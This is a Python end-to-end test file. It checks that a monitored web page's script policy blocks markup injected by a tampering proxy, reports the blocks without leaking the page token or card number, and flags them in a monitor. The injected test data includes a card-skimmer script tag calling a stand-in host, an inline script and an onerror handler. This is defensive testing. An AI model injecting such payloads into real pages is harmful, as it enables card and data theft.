"""A real browser behind the tampering proxy: what is injected does not run, and is reported; what runs is listed."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from playwright.async_api import Browser, Page

from tests.e2e.waiting import eventually
from tests.links.watch.conftest import Watched

pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]

INJECTED = (
    '<script src="https://skimmer.example/a.js?card=4242"></script>'
    "<script>window.stolen = 'inline'</script>"
    '<img src="/nothing" onerror="window.stolen = \'handler\'">'
)


@asynccontextmanager
async def opened(browser: Browser, url: str) -> AsyncIterator[tuple[Page, set[str]]]:
    """The page once it is quiet, and the scripts that ran, by address; those written into it have the page's own."""
    context = await browser.new_context()
    page = await context.new_page()
    ran: set[str] = set()
    devtools = await context.new_cdp_session(page)
    devtools.on("Debugger.scriptParsed", lambda told: ran.add(told["url"]))
    await devtools.send("Debugger.enable")
    await page.goto(url, wait_until="networkidle")
    try:
        # What the debugger puts in has no address.
        yield page, ran - {""}
    finally:
        await context.close()


async def test_an_injected_script_does_not_run_is_reported_and_told_and_the_monitor_sees_it(
    watched: Watched, browser: Browser
) -> None:
    url = await watched.link()
    watched.proxy.injects(INJECTED)
    async with opened(browser, url) as (page, ran):
        assert await page.evaluate("window.stolen") is None
        assert not [each for each in ran if "skimmer" in each or each == url]

        async def reported() -> bool:
            return len(await watched.events("page.script_blocked")) >= 3

        await eventually(reported, "what was blocked is told", seconds=20)
    told = await watched.events("page.script_blocked")
    assert {
        ("script-src-elem", "https://skimmer.example"),
        ("script-src-elem", "inline"),
        ("script-src-attr", "inline"),
    } == {(each.data["directive"], each.data["blocked"]) for each in told}
    token = url.rpartition("/")[2]
    answer = await watched.client.get("/v1/page-reports", headers=watched.headers)
    assert 3 == len(answer.json()["data"])
    for text in (answer.text, *(str(each.data) for each in told)):
        assert token not in text
        assert "4242" not in text
    check = await watched.house.monitor.check(watched.account)
    assert check is not None
    assert {
        "script https://skimmer.example/a.js?card=4242",
        "script inline plain",
        "handler img onerror",
    } <= {each.name for each in check.found}


async def test_the_scripts_that_a_browser_runs_are_those_of_the_inventory(
    watched: Watched, browser: Browser
) -> None:
    url = await watched.link()
    origin = watched.proxy.url
    async with opened(browser, url) as (_, ran):
        pass
    listed = {
        f"{origin}{each['url']}" if each["kind"] == "own" else each["url"]
        for each in (await watched.page())["scripts"]
        if each["loaded"] == "with the page"
    }
    assert listed == ran
